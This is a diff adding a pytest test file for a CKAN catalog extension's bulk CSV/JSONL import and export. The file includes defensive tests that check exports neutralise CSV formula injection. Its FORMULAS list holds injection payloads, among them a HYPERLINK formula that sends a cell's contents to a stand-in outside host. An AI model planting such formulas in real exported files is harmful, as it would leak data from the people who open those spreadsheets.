@@ -1,0 +1,361 @@
+"""Bulk import and export (ckan pe-catalog import/export), against the real stack."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import re
+import subprocess
+
+import pytest
+from ckan import model
+from ckan.cli.cli import ckan
+from ckan.logic import ValidationError
+from ckan.tests import factories
+from ckan.tests.helpers import call_action
+from ckanext.scheming.helpers import scheming_get_dataset_schema
+
+from harness.sample import DATASET_TYPES, dataset_dict
+
+pytestmark = pytest.mark.usefixtures("with_plugins", "clean_db", "clean_index")
+
+# fields compared after a round trip (besides the schema's own fields)
+VOLATILE = {
+    "id",
+    "metadata_created",
+    "metadata_modified",
+    "revision_id",
+    "organization",
+    "num_resources",
+    "num_tags",
+    "tags",
+    "groups",
+    "relationships_as_object",
+    "relationships_as_subject",
+    "creator_user_id",
+    "state",
+    "resources",
+    "isopen",
+    "license_title",
+    "license_url",
+}
+
+
+@pytest.fixture
+def org(editor_org):
+    return editor_org["org"]
+
+
+@pytest.fixture
+def sysadmin_ctx():
+    admin = factories.Sysadmin()
+    return lambda: {"user": admin["name"]}
+
+
+def _create(ctx, dataset_type: str, org: dict, name: str, **overrides) -> dict:
+    data = dataset_dict(dataset_type, org["id"], name=name, **overrides)
+    data.setdefault(
+        "resources", [{"url": "https://example.org/datos.csv", "name": "Datos", "format": "CSV"}]
+    )
+    return call_action("package_create", ctx(), **data)
+
+
+def _comparable(pkg: dict) -> dict:
+    out = {k: v for k, v in pkg.items() if k not in VOLATILE}
+    out["tags"] = sorted(t["name"] for t in pkg.get("tags", []))
+    out["resources"] = [{k: r.get(k) for k in ("url", "name", "format")} for r in pkg["resources"]]
+    return out
+
+
+def _invoke(cli, *args: str):
+    return cli.invoke(ckan, ["pe-catalog", *args], catch_exceptions=False)
+
+
+def _count(dataset_type: str) -> int:
+    return (
+        model.Session.query(model.Package)
+        .filter(model.Package.type == dataset_type, model.Package.state == "active")
+        .count()
+    )
+
+
+@pytest.mark.parametrize("dataset_type", DATASET_TYPES)
+@pytest.mark.parametrize("fmt", ["csv", "jsonl"])
+def test_export_loads_back_unchanged(cli, tmp_path, org, sysadmin_ctx, dataset_type, fmt):
+    before = [
+        _create(sysadmin_ctx, dataset_type, org, f"{dataset_type}-uno", tag_string="agua,Cusco"),
+        _create(
+            sysadmin_ctx,
+            dataset_type,
+            org,
+            f"{dataset_type}-dos",
+            private=True,
+            **({"report_code": "INS-2024-02"} if dataset_type == "hta-report" else {}),
+        ),
+    ]
+    path = tmp_path / f"export.{fmt}"
+
+    exported = _invoke(cli, "export", "--type", dataset_type, "--format", fmt, "-o", str(path))
+    assert exported.exit_code == 0, exported.output
+    for pkg in before:
+        call_action("dataset_purge", sysadmin_ctx(), id=pkg["id"])
+    imported = _invoke(cli, "import", str(path), "--type", dataset_type)
+
+    assert imported.exit_code == 0, imported.output
+    assert "2 rows: 2 were created, 0 were updated, 0 rejected" in imported.output
+    for pkg in before:
+        again = call_action("package_show", sysadmin_ctx(), id=pkg["name"])
+        assert _comparable(again) == _comparable(pkg)
+
+
+def test_csv_lists_and_columns(cli, tmp_path, org, sysadmin_ctx):
+    _create(sysadmin_ctx, "hta-report", org, "informe")
+    path = tmp_path / "hta.csv"
+    _invoke(cli, "export", "--type", "hta-report", "-o", str(path))
+
+    (row,) = csv.DictReader(io.StringIO(path.read_text(encoding="utf-8")))
+    assert row["authors"] == "Pérez García, Ana; Quispe Mamani, Luis"
+    assert row["owner_org"] == org["name"]
+    assert row["publication_date"] == "2023-05-10"
+    assert row["private"] == "false"
+    assert json.loads(row["resources"])[0]["url"] == "https://example.org/datos.csv"
+
+
+def test_import_creates_then_updates_by_name(cli, tmp_path, org):
+    path = tmp_path / "becas.jsonl"
+    record = dataset_dict("scholarship", org["name"], name="beca-importada")
+    record.pop("type")
+    path.write_text(json.dumps(record, ensure_ascii=False) + "\n", encoding="utf-8")
+
+    first = _invoke(cli, "import", str(path), "--type", "scholarship")
+    record["title"] = "Título corregido"
+    path.write_text(json.dumps(record, ensure_ascii=False) + "\n", encoding="utf-8")
+    second = _invoke(cli, "import", str(path), "--type", "scholarship")
+
+    assert "1 were created" in first.output
+    assert "0 were created, 1 were updated" in second.output
+    assert _count("scholarship") == 1
+    assert call_action("package_show", id="beca-importada")["title"] == "Título corregido"
+
+
+def _write_csv(path, rows: list[dict]) -> None:
+    with path.open("w", encoding="utf-8", newline="") as f:
+        writer = csv.DictWriter(f, fieldnames=list(rows[0]))
+        writer.writeheader()
+        writer.writerows(rows)
+
+
+def _csv_row(org: dict, name: str, **overrides) -> dict:
+    record = dataset_dict("environmental-data", org["name"], name=name, **overrides)
+    record.pop("type")
+    return {k: ";".join(v) if isinstance(v, list) else v for k, v in record.items()}
+
+
+def test_rejected_rows_are_reported_and_good_rows_load(cli, tmp_path, org):
+    path = tmp_path / "ambiente.csv"
+    _write_csv(
+        path,
+        [
+            _csv_row(org, "bueno-1"),
+            _csv_row(org, "malo", ubigeo="99", temporal_start_date="ayer"),
+            _csv_row(org, "bueno-2"),
+        ],
+    )
+
+    result = _invoke(cli, "import", str(path), "--type", "environmental-data")
+
+    assert result.exit_code == 1
+    assert "row 3: ubigeo:" in result.output
+    assert "row 3: temporal_start_date:" in result.output
+    assert "3 rows: 2 were created, 0 were updated, 1 rejected" in result.output
+    assert _count("environmental-data") == 2
+    assert model.Package.get("malo") is None
+
+
+def test_dry_run_validates_and_writes_nothing(cli, tmp_path, org):
+    path = tmp_path / "ambiente.csv"
+    _write_csv(path, [_csv_row(org, "bueno"), _csv_row(org, "malo", ubigeo="99")])
+
+    result = _invoke(cli, "import", str(path), "--type", "environmental-data", "--dry-run")
+
+    assert result.exit_code == 1
+    assert "2 rows: 1 would be created, 0 would be updated, 1 rejected" in result.output
+    assert _count("environmental-data") == 0
+    assert call_action("package_search", q="*:*", include_private=True)["count"] == 0
+
+
+def test_utf8_with_byte_order_mark_is_accepted(cli, tmp_path, org):
+    path = tmp_path / "bom.csv"
+    _write_csv(path, [_csv_row(org, "con-bom", title="Calidad del aire en Áncash")])
+    path.write_bytes(b"\xef\xbb\xbf" + path.read_bytes())
+
+    result = _invoke(cli, "import", str(path), "--type", "environmental-data")
+
+    assert result.exit_code == 0, result.output
+    assert call_action("package_show", id="con-bom")["title"] == "Calidad del aire en Áncash"
+
+
+@pytest.mark.parametrize(
+    ("content", "message"),
+    [
+        (b"", "The file is empty"),
+        (b"name,title\n", "only a header"),
+        (b"name,titulo\nx,y\n", "Unknown columns: titulo"),
+        (b"title\nSin nombre\n", 'needs a "name" column'),
+        ("name,title\ncalidad,Calidad del aire en Áncash\n".encode("latin-1"), "not UTF-8"),
+    ],
+)
+def test_bad_files_are_refused_whole(cli, tmp_path, org, content, message):
+    path = tmp_path / "malo.csv"
+    path.write_bytes(content)
+
+    result = _invoke(cli, "import", str(path), "--type", "environmental-data")
+
+    assert result.exit_code == 2
+    assert message in result.output
+    assert _count("environmental-data") == 0
+
+
+def test_duplicate_names_refuse_the_file(cli, tmp_path, org):
+    path = tmp_path / "duplicado.csv"
+    _write_csv(path, [_csv_row(org, "repetido"), _csv_row(org, "otro"), _csv_row(org, "repetido")])
+
+    result = _invoke(cli, "import", str(path), "--type", "environmental-data")
+
+    assert result.exit_code == 2
+    assert "Names repeated in the file: repetido (rows 2, 4)" in result.output
+    assert _count("environmental-data") == 0
+
+
+def test_import_as_a_user_respects_permissions(cli, tmp_path, org):
+    outsider = factories.User()
+    path = tmp_path / "ambiente.csv"
+    _write_csv(path, [_csv_row(org, "ajeno")])
+
+    result = _invoke(
+        cli, "import", str(path), "--type", "environmental-data", "--user", outsider["name"]
+    )
+
+    assert result.exit_code == 1
+    assert "row 2:" in result.output
+    assert _count("environmental-data") == 0
+
+
+@pytest.mark.parametrize("dataset_type", DATASET_TYPES)
+@pytest.mark.parametrize("fmt", ["csv", "jsonl"])
+def test_documented_example_files_load(cli, dataset_type, fmt):
+    from pathlib import Path
+
+    example = Path(__file__).resolve().parents[2] / "docs" / "examples" / f"{dataset_type}.{fmt}"
+    assert _invoke(cli, "seed", "--no-sample").exit_code == 0
+
+    result = _invoke(cli, "import", str(example), "--type", dataset_type)
+
+    assert result.exit_code == 0, result.output
+    assert "3 rows: 3 were created" in result.output
+
+
+# --- spreadsheets -----------------------------------------------------------
+
+# OWASP's CSV injection examples, a quote before one, and a full-width sign
+FORMULAS = [
+    '=HYPERLINK("http://x.example/?"&A1,"Ver")',
+    "+1+2",
+    "-2+3",
+    "@SUM(1+1)",
+    "'=1+1",
+    "\uff1d1+1",
+]
+
+
+def _spreadsheet_formulas(path, tmp_path) -> list[str]:
+    """The formulas LibreOffice Calc finds when it opens the CSV file (UTF-8, commas)."""
+    profile = tmp_path / "lo-profile"
+    subprocess.run(
+        [
+            "soffice",
+            f"-env:UserInstallation=file://{profile}",
+            "--headless",
+            "--infilter=CSV:44,34,76,1",
+            "--convert-to",
+            "fods",
+            "--outdir",
+            str(tmp_path),
+            str(path),
+        ],
+        check=True,
+        capture_output=True,
+        timeout=120,
+    )
+    sheet = (tmp_path / (path.stem + ".fods")).read_text(encoding="utf-8")
+    return re.findall(r'table:formula="([^"]*)"', sheet)
+
+
+def _create_with_formulas(ctx, dataset_type: str, org: dict, name: str) -> dict:
+    """A dataset whose every free-text field (those that take such text) starts a formula."""
+    data = dataset_dict(dataset_type, org["id"], name=name)
+    fields = [f["field_name"] for f in scheming_get_dataset_schema(dataset_type)["dataset_fields"]]
+    hostile = {}
+    for i, field in enumerate(f for f in fields if f not in ("name", "owner_org")):
+        formula = FORMULAS[i % len(FORMULAS)]
+        if isinstance(data.get(field), list):
+            hostile[field] = [formula, *data[field][1:]]
+        elif isinstance(data.get(field), str):
+            hostile[field] = formula
+    while True:
+        try:
+            return _create(ctx, dataset_type, org, name, **hostile)
+        except ValidationError as error:
+            refused = set(error.error_dict) & set(hostile)
+            assert refused, error.error_dict
+            for field in refused:  # a coded field (a date, a choice) refuses them
+                del hostile[field]
+
+
+@pytest.mark.parametrize("dataset_type", DATASET_TYPES)
+def test_csv_export_opens_without_formulas_and_loads_back(
+    cli, tmp_path, org, sysadmin_ctx, dataset_type
+):
+    pkg = _create_with_formulas(sysadmin_ctx, dataset_type, org, "formulas")
+    assert pkg["title"] == FORMULAS[0]
+    path = tmp_path / "export.csv"
+    _invoke(cli, "export", "--type", dataset_type, "-o", str(path))
+    (row,) = csv.DictReader(io.StringIO(path.read_text(encoding="utf-8")))
+    assert row["title"] == "'" + FORMULAS[0]  # there, as text
+
+    assert _spreadsheet_formulas(path, tmp_path) == []
+
+    imported = _invoke(cli, "import", "--type", dataset_type, str(path))
+    assert "0 rejected" in imported.output, imported.output
+    again = call_action("package_show", sysadmin_ctx(), id=pkg["name"])
+    assert _comparable(again) == _comparable(pkg)
+
+
+def test_search_page_export_opens_without_formulas(app, tmp_path, org, sysadmin_ctx):
+    _create_with_formulas(sysadmin_ctx, "hta-report", org, "formulas")
+    path = tmp_path / "hta-reports.csv"
+    path.write_bytes(app.get("/hta-report/export.csv").get_data())
+    (row,) = csv.DictReader(io.StringIO(path.read_text(encoding="utf-8")))
+    assert row["title"] == "'" + FORMULAS[0]
+
+    assert _spreadsheet_formulas(path, tmp_path) == []
+
+
+def test_csv_round_trip_keeps_separators_and_spaces(cli, tmp_path, org, sysadmin_ctx):
+    pkg = _create(
+        sysadmin_ctx,
+        "hta-report",
+        org,
+        "exacto",
+        authors=["Smith; John", "[Equipo] Revisión", "=x"],
+        notes=" empieza con espacio\ny termina con salto\n",
+    )
+    path = tmp_path / "hta.csv"
+    _invoke(cli, "export", "--type", "hta-report", "-o", str(path))
+    imported = _invoke(cli, "import", "--type", "hta-report", str(path))
+    assert "0 rejected" in imported.output, imported.output
+
+    again = call_action("package_show", sysadmin_ctx(), id="exacto")
+    assert again["authors"] == pkg["authors"] == ["Smith; John", "[Equipo] Revisión", "=x"]
+    assert again["notes"] == pkg["notes"]
